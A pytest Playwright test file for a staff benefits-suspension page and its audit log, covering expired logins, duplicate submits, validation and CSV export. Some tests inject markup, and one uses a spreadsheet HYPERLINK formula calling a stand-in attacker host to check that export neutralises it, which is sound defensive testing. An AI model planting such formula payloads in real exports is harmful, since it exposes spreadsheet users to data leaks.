"""Suspending benefits and reading the audit log in the browser, with a login that ends in mid-form and in two tabs."""

from __future__ import annotations

import csv
import io
import secrets
from collections.abc import Iterator
from typing import get_args

import pytest
from playwright.sync_api import Page, expect

from assistant.accounts.roles import LONGEST_NAME
from assistant.store.audit import SERVER, Action, Actor, record
from assistant.store.suspensions import SuspensionStore
from tests.browser.staff import PASSWORD, Staff
from tests.browser.visitor import Visitor

REWARD, NAME = "xicheng-employment-reward", "就业奖励"
REASON = "标准正在调整，<b>以区里</b>的通知为准 & 请稍候"
NARROWEST = 320  # WCAG 1.4.10
LINES = 130
ON_A_PHONE = pytest.mark.parametrize("visitor", ["phone"], indirect=True)
ON_A_DESKTOP = pytest.mark.parametrize("visitor", ["desktop"], indirect=True)


@pytest.fixture
def scripting() -> bool:
    return True


@pytest.fixture
def suspensions(staff: Staff) -> Iterator[SuspensionStore]:
    store = SuspensionStore(staff.database)
    yield store
    for benefit in store.current():
        store.lift(benefit, SERVER)


def fill_in(page: Page, reason: str = REASON) -> None:
    page.get_by_label("待遇").select_option(REWARD)
    page.get_by_label("原因").fill(reason)


def submit(page: Page) -> None:
    page.get_by_role("button", name="暂停答复").click()


@pytest.mark.parametrize(
    ("visitor", "scripting"), [("phone", True), ("desktop", True), ("phone", False)], indirect=["visitor"]
)
def test_a_login_that_ends_in_mid_form_takes_no_word_away(
    visitor: Visitor, staff: Staff, suspensions: SuspensionStore
) -> None:
    page, name = visitor.page, staff.come_in(visitor.page, "staff")
    visitor.arrive("/suspensions")
    expect(page.get_by_text("没有。全部待遇都在答复。")).to_be_visible()
    fill_in(page)
    staff.leave_alone()
    submit(page)
    expect(page.get_by_role("alert")).to_contain_text("请先登录")
    visitor.check()
    for password in ("wrong", "wrong again", PASSWORD):
        expect(page.locator("main blockquote")).to_have_text(REASON)
        page.get_by_label("账号").fill(name)
        page.get_by_label("密码").fill(password)
        page.keyboard.press("Enter")
    expect(page.get_by_role("heading", level=1)).to_have_text("已经登录")
    expect(page.locator("main blockquote")).to_have_text(REASON)
    assert suspensions.current() == {}  # nothing is sent without the person
    visitor.check()
    page.get_by_role("button", name="接着提交").click()
    expect(page.get_by_role("status")).to_have_text("已经暂停。")
    expect(page.locator(".sessions li")).to_have_count(1)
    expect(page.locator(".sessions li")).to_contain_text(f"原因：{REASON}")
    visitor.check()
    assert len(staff.did(name, "benefit_suspended")) == 1


@ON_A_DESKTOP
def test_pressed_twice_and_sent_again_it_is_suspended_once(
    visitor: Visitor, staff: Staff, suspensions: SuspensionStore
) -> None:
    page, name = visitor.page, staff.come_in(visitor.page)
    page.goto("/suspensions")
    fill_in(page)
    page.get_by_role("button", name="暂停答复").dblclick()
    expect(page.get_by_role("status")).to_have_text("已经暂停。")
    page.reload()
    page.go_back()
    fill_in(page)
    submit(page)
    expect(page.get_by_role("status")).to_have_text("已经暂停。")
    assert suspensions.current()[REWARD].reason == REASON
    assert len(staff.did(name, "benefit_suspended")) == 1


@ON_A_DESKTOP
def test_what_another_tab_has_lifted_is_lifted(visitor: Visitor, staff: Staff, suspensions: SuspensionStore) -> None:
    page, name = visitor.page, staff.come_in(visitor.page)
    suspensions.suspend(REWARD, REASON, SERVER)
    second = page.context.new_page()
    page.goto("/suspensions")
    second.goto("/suspensions")
    for tab, said in ((page, "已经恢复答复。"), (second, "这一项没有暂停（可能别人已经恢复），不用再恢复。")):
        tab.get_by_role("button", name=f"恢复答复{NAME}").click()
        expect(tab.get_by_role("status")).to_have_text(said)
        expect(tab.get_by_text("没有。全部待遇都在答复。")).to_be_visible()
    assert len(staff.did(name, "benefit_resumed")) == 1


@ON_A_PHONE
def test_what_cannot_be_suspended_is_told_beside_the_form(
    visitor: Visitor, staff: Staff, suspensions: SuspensionStore
) -> None:
    page = visitor.page
    staff.come_in(page)
    visitor.arrive("/suspensions")
    fill_in(page, "   ")
    submit(page)
    expect(page.get_by_role("alert")).to_have_text("缺少原因：暂停一项待遇要写明为什么，答复时会一起显示。")
    expect(page.get_by_role("alert")).to_be_in_viewport()
    expect(page.get_by_label("待遇")).to_have_value(REWARD)
    expect(page.get_by_label("原因")).to_be_focused()
    visitor.check()
    page.locator("#reason").evaluate("field => field.removeAttribute('maxlength')")
    fill_in(page, "长" * 201)
    submit(page)
    expect(page.get_by_role("alert")).to_have_text("原因太长（201 个字），最多 200 个。")
    expect(page.get_by_label("原因")).to_have_value("长" * 201)
    page.get_by_label("原因").fill(REASON)
    page.locator("#benefit option:checked").evaluate("option => { option.value = '<b>none</b>' }")
    submit(page)
    expect(page.get_by_role("alert")).to_contain_text("<b>none</b>")
    expect(page.get_by_label("待遇")).to_be_focused()
    expect(page.get_by_label("原因")).to_have_value(REASON)
    assert suspensions.current() == {}


@ON_A_DESKTOP
def test_the_log_is_filtered_and_leafed_through(visitor: Visitor, staff: Staff) -> None:
    page, name = visitor.page, staff.come_in(visitor.page)
    fill_log(staff, writer := f"{name}-w")
    page.goto("/audit")
    page.get_by_label("账号").fill(writer)
    page.get_by_role("button", name="查看").click()
    rows = page.locator(".records tbody tr")
    previous, following = page.get_by_role("link", name="上一页"), page.get_by_role("link", name="下一页")
    expect(rows).to_have_count(100)
    expect(rows.first).to_contain_text(f"benefit-{LINES - 1}")
    expect(previous).to_have_count(0)
    following.click()
    expect(rows).to_have_count(LINES - 100)
    expect(rows.first).to_contain_text(f"benefit-{LINES - 101}")
    expect(following).to_have_count(0)
    visitor.check()
    previous.click()
    expect(rows).to_have_count(100)
    page.get_by_label("操作").select_option(label="恢复答复")
    page.get_by_role("button", name="查看").click()
    expect(rows).to_have_count(1)
    expect(page.get_by_label("账号")).to_have_value(writer)
    page.get_by_label("从").fill("2099-01-01")
    page.get_by_role("button", name="查看").click()
    expect(page.get_by_text("没有符合的记录。")).to_be_visible()
    visitor.check()
    page.goto("/audit?what=none&who=<b>")
    expect(page.get_by_role("alert")).to_have_text("没有这种操作，请从列表里选。")
    expect(page.get_by_label("账号")).to_have_value("<b>")
    assert {entry.details.get("who") for entry in staff.did(name, "audit_seen")} == {None, writer, "<b>"}


def fill_log(staff: Staff, writer: str) -> None:
    with staff.database.begin() as connection:
        for number in range(LINES):
            action: Action = "benefit_resumed" if number == 7 else "benefit_suspended"
            record(connection, Actor(writer, "staff"), action, f"benefit-{number}")


@ON_A_DESKTOP
def test_the_exported_log_is_the_whole_of_it_and_no_formula(visitor: Visitor, staff: Staff) -> None:
    page, name = visitor.page, staff.come_in(visitor.page)
    fill_log(staff, writer := f'=HYPERLINK("//evil.example/{name}")')
    page.goto("/audit")
    page.get_by_label("账号").fill(writer)
    page.get_by_role("button", name="查看").click()
    with page.expect_download() as waiting:
        page.get_by_role("link", name="导出 CSV").click()
    assert waiting.value.suggested_filename == "audit.csv"
    content = waiting.value.path().read_bytes()
    assert content.startswith("\ufeff".encode())
    header, *rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    assert header == ["时间", "账号", "角色", "操作", "对象", "详情", "请求编号"]
    assert [row[4] for row in rows] == [f"benefit-{number}" for number in reversed(range(LINES))]
    assert {row[1] for row in rows} == {f"'{writer}"}
    assert {row[3] for row in rows} <= set(get_args(Action))
    assert [entry.details for entry in staff.did(name, "audit_exported")] == [{"who": writer}]


@ON_A_PHONE
def test_on_the_narrowest_screen_only_the_table_scrolls(
    visitor: Visitor, staff: Staff, suspensions: SuspensionStore
) -> None:
    page = visitor.page
    suspensions.suspend(REWARD, "x" * 200, SERVER)
    name = staff.come_in(page, name=secrets.token_hex(LONGEST_NAME // 2))
    page.set_viewport_size({"width": NARROWEST, "height": 640})
    narrow = Visitor(page, scripting=False, on_every_screen=False)  # only looks at the width
    for path in ("/account", "/account/password", "/suspensions", "/privacy", "/", "/nothing", f"/audit?who={name}"):
        narrow.arrive(path)
    table = page.get_by_role("region", name="审计记录表")
    assert table.evaluate("region => region.scrollWidth > region.clientWidth")
    table.focus()
    for _ in range(8):
        page.keyboard.press("ArrowRight")
    expect(page.get_by_role("columnheader", name="时间")).not_to_be_in_viewport()
    visitor.check()
